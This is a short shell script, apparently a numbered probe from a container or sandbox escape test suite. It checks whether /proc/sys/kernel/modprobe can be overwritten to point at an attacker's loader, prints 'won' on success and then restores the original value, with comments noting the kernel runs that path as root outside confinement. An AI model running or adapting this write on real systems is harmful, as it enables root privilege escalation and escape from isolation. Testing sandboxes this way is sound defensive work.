# SPDX-License-Identifier: Apache-2.0
# A program of the attacker's as the one that loads modules for the kernel.
#
# The file in /proc/sys is the machine's; the kernel runs what it names as root, outside of everything.
#
# ---
# tries: [B6]
# wins: said
old=$(cat /proc/sys/kernel/modprobe)
echo "$O/loader" > /proc/sys/kernel/modprobe && echo won
echo "$old" > /proc/sys/kernel/modprobe
